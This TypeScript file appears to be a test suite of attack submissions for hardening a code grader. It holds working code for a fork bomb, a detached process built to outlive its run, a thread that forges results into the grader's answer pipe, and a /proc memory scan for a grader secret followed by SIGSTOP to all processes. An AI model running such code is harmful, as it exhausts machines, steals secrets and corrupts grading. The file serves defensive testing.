import type { Theme } from '../Attack';
import { tools, wrongC4 } from './source';

/** Other processes. */
export const processes: Theme = {
  name: 'processes',
  attacks: [
    {
      name: 'fork bomb',
      tries: 'Starts processes that start processes, until the machine has none left.',
      answers: () => ({
        '1-2': `${tools} ${wrongC4}
        const again = "const { spawn } = require('child_process'); for (let i = 0; i < 20; i++) spawn(process.execPath, ['-e', process.argv[1], process.argv[1]], { detached: true, stdio: 'ignore' });";
        for (let i = 0; i < 50; i++) {
          if (attempt(() => childProcess.execFileSync('/bin/sh', ['-c', 'echo child'])) !== undefined) stolen('a shell');
          attempt(() => childProcess.spawn(process.execPath, ['-e', again, again], { detached: true, stdio: 'ignore' }).on('error', () => undefined));
        }`,
      }),
    },
    {
      name: 'a child that outlives',
      tries: 'Leaves a detached process behind that disturbs later submissions.',
      answers: ({ out }) => ({
        '1-2': `${tools} ${wrongC4}
        for (const start of [childProcess.spawn, childProcess.spawnSync] as any[]) {
          attempt(() => start('/usr/bin/setsid', [process.execPath, '-e', 'setTimeout(() => {}, 1e6)', '${out}'], { detached: true, stdio: 'ignore', timeout: 2000 }).on?.('error', () => undefined)?.unref());
        }`,
      }),
    },
    {
      name: 'a thread that goes on',
      tries:
        'Writes garbage and claims into the pipes from a thread while the grader calls the answer.',
      answers: () => ({
        '1-2': `${tools} ${wrongC4}
        new workerThreads.Worker(\`
          const fs = require('fs');
          const text = Buffer.from(JSON.stringify({ o: [['value', 0]] }));
          const head = Buffer.alloc(8); head.writeUInt32LE(text.length, 0);
          const fd = fs.openSync('/pipes/answers-0', fs.constants.O_RDWR);
          for (;;) fs.writeSync(fd, Buffer.concat([head, text]));
        \`, { eval: true });
        await new Promise((resolve) => setTimeout(resolve, 300));`,
      }),
    },
    {
      name: 'other processes’ memory',
      tries: 'Looks for the judge among the processes, and writes into its memory.',
      answers: () => ({
        '1-2': `${tools} ${wrongC4}
        for (const pid of fs.readdirSync('/proc').filter((name) => Number(name) > 0 && Number(name) !== process.pid)) {
          const line = attempt(() => fs.readFileSync('/proc/' + pid + '/cmdline', 'utf8')) ?? '';
          if (/judgeProcess|jest|dist.attack|grade\\.js/.test(line)) stolen(line);
          const fd = attempt(() => fs.openSync('/proc/' + pid + '/mem', 'r'));
          if (fd === undefined) continue;
          for (const [, from, to] of (attempt(() => fs.readFileSync('/proc/' + pid + '/maps', 'latin1')) ?? '').matchAll(/^(\\w+)-(\\w+) r/gm)) {
            const [start, end] = [parseInt(from!, 16), parseInt(to!, 16)];
            const bytes = Buffer.alloc(Math.min(end - start, 1e7));
            if (attempt(() => fs.readSync(fd, bytes, 0, bytes.length, start)) && bytes.includes(['GRADER', 'SECRET='].join('_'))) stolen('memory of ' + pid);
          }
          if (Number(pid) > 1) attempt(() => process.kill(Number(pid), 0));
        }
        attempt(() => process.kill(-1, 'SIGSTOP'));`,
      }),
    },
  ],
};
